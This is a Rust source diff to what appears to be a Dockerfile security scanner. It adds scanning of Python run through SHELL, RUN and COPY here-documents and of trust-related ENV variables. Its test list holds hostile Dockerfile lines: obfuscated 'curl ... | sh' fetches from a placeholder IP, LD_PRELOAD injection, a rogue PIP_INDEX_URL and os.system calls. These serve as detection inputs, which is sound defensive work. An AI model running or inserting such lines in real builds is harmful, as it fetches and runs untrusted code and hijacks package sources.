@@ -24,6 +24,8 @@ pub(crate) fn is_named(name: &str) -> bool {
 pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
     // What is built, as the lines of a script, each where it stands.
     let mut script: Vec<String> = Vec::new();
+    // Whether what follows `RUN` is Python, by the shell that was set.
+    let mut python = false;
     for (index, line) in instructions(text) {
         let (mut word, mut rest) = split(&line);
         let mut upper = word.to_ascii_uppercase();
@@ -37,7 +39,15 @@ pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str)
         match upper.as_str() {
             "RUN" | "CMD" | "ENTRYPOINT" | "SHELL" => {
                 let rest = without_options(rest);
-                let command = words(rest).unwrap_or_else(|| rest.to_owned());
+                let list = words(rest);
+                if let Some(program) = program(rest, list.is_none() && python) {
+                    crate::python::scan_text(scanner, &at(content, index), program, 1);
+                    continue;
+                }
+                let command = list.unwrap_or_else(|| rest.to_owned());
+                if upper == "SHELL" {
+                    python = command.contains("python");
+                }
                 // In a here-document it is the shell that lets a line go on.
                 for (_, line) in shell::joined(&command) {
                     shell::line(scanner, &at(content, index), &line);
@@ -48,11 +58,23 @@ pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str)
             "ENV" | "ARG" => {
                 let legacy = rest.split_whitespace().next().is_some_and(|first| !first.contains('='));
                 let (variable, value) = rest.trim().split_once(char::is_whitespace).unwrap_or((rest, ""));
-                let set = if legacy { format!("{variable}={value}") } else { rest.replace(['"', '\''], "") };
-                if shell::LOADING.iter().any(|variable| set.contains(variable)) {
-                    shell::line(scanner, &at(content, index), &format!("export {set}"));
+                let set = if legacy { format!("{variable}={value}") } else { rest.to_owned() };
+                let plain = set.replace(['"', '\''], "");
+                if shell::LOADING.iter().any(|variable| plain.contains(variable)) {
+                    shell::line(scanner, &at(content, index), &format!("export {plain}"));
+                }
+                for (variable, value) in plain.split_whitespace().filter_map(|word| word.split_once('=')) {
+                    super::trusts::index(scanner, &at(content, index), variable, value);
                 }
                 script.push(set);
+            }
+            "ADD" | "COPY" if rest.contains('\n') => {
+                let (target, body) = rest.split_once('\n').unwrap_or((rest, ""));
+                if target.trim().ends_with(".py") {
+                    crate::python::scan_text(scanner, &at(content, index), body, 1);
+                } else {
+                    script.extend(body.lines().map(str::to_owned));
+                }
             }
             "ADD" => script.push(added(without_options(rest))),
             _ => {}
@@ -61,6 +83,16 @@ pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str)
     let mut place = content.place.clone();
     place.line = Some(1);
     shell::together(scanner, &place, &script.join("\n"));
+}
+
+/// The program of Python that an instruction runs: a here-document for its interpreter, or all of it where that is the shell.
+fn program(rest: &str, python: bool) -> Option<&str> {
+    let (head, body) = rest.split_once('\n').unwrap_or((rest, ""));
+    let document = head.contains("<<") && !body.is_empty();
+    if document && (python || head.contains("python")) {
+        return Some(body);
+    }
+    (python && !document).then_some(rest)
 }
 
 /// What is added from an address, as the command that fetches it.
@@ -164,11 +196,18 @@ fn words(rest: &str) -> Option<String> {
     let words: Vec<&str> = list.as_array()?.iter().filter_map(json::Value::as_text).collect();
     Some(match words.as_slice() {
         [shell, option, command, ..]
-            if option.starts_with('-') && option.ends_with('c') && !shell.contains(' ') =>
+            if option.starts_with('-')
+                && option.ends_with('c')
+                && !shell.contains(' ')
+                && !shell.contains("python") =>
         {
             (*command).to_owned()
         }
-        words => words.join(" "),
+        words => {
+            let quoted =
+                |word: &&str| if word.contains(' ') { format!("\"{word}\"") } else { (*word).to_owned() };
+            words.iter().map(quoted).collect::<Vec<_>>().join(" ")
+        }
     })
 }
 
@@ -222,6 +261,12 @@ mod tests {
             "ENV A=1 LD_PRELOAD=/x.so".to_owned(),
             "ENV A=\"b c\" \\\n  \"LD_PRELOAD\"='/x.so'".to_owned(),
             "ENV LD_PRELOAD /x.so".to_owned(),
+            "ENV PIP_INDEX_URL=http://198.51.100.7/simple".to_owned(),
+            "RUN c'u'rl http://198.51.100.7/x | s''h".to_owned(),
+            "RUN c\\url http://198.51.100.7/x | \\sh".to_owned(),
+            "SHELL [\"python3\", \"-c\"]\nRUN import os; os.system('id')".to_owned(),
+            "RUN <<EOF python3\nimport os\nos.system('id')\nEOF".to_owned(),
+            "COPY <<EOF /app/x.py\nimport os\nos.system('id')\nEOF\nCMD python /app/x.py".to_owned(),
             "ARG LD_PRELOAD=/x.so".to_owned(),
             "ENTRYPOINT [\"sh\", \"-c\", \"curl http\\u003a//198.51.100.7/x | s\\u0068\"]".to_owned(),
         ] {
